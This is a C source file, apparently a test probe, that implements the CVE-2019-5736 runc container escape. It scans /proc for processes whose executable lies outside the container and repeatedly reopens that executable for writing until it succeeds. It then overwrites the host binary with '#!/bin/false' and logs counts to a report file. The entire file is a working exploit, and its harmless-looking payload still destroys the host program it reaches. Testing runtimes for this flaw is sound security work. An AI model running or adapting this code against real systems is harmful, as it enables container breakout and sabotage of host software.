// Looks for a process whose program is not one of the container's, and overwrites that program's
// file (CVE-2019-5736): opens /proc/PID/exe for reading, and through that descriptor for writing
// until nobody runs it any more.
//
// usage: overwrite REPORT      Rewrites REPORT with "FOUND WRITTEN" whenever it found one.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static unsigned long found, written;

static void report(const char* path) {
  char text[64];
  int length = snprintf(text, sizeof(text), "%lu %lu\n", found, written);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  write(fd, text, length);
  close(fd);
}

// Every program of the image lies in its root file system, and this one's, too.
static int isOurs(const struct stat* info, const struct stat* own) {
  return info->st_dev == own->st_dev;
}

static void attack(int exe) {
  char name[64];
  snprintf(name, sizeof(name), "/proc/self/fd/%d", exe);
  // ETXTBSY until the last process that runs it has gone.
  for (int tries = 0; tries < 20000; ++tries) {
    int fd = open(name, O_WRONLY);
    if (fd < 0 && errno == ETXTBSY) continue;
    if (fd < 0) return;
    ++written;
    write(fd, "#!/bin/false\n", 13);
    close(fd);
    return;
  }
}

int main(int argc, char** argv) {
  struct stat own;
  if (argc != 2 || stat("/proc/self/exe", &own) < 0) return 1;
  report(argv[1]);
  for (;;) {
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    while ((entry = readdir(proc)) != NULL) {
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
      char path[300];
      struct stat info;
      snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
      int exe = open(path, O_RDONLY);
      if (exe < 0) continue;
      if (fstat(exe, &info) == 0 && !isOurs(&info, &own)) {
        ++found;
        attack(exe);
        report(argv[1]);
      }
      close(exe);
    }
    closedir(proc);
  }
}
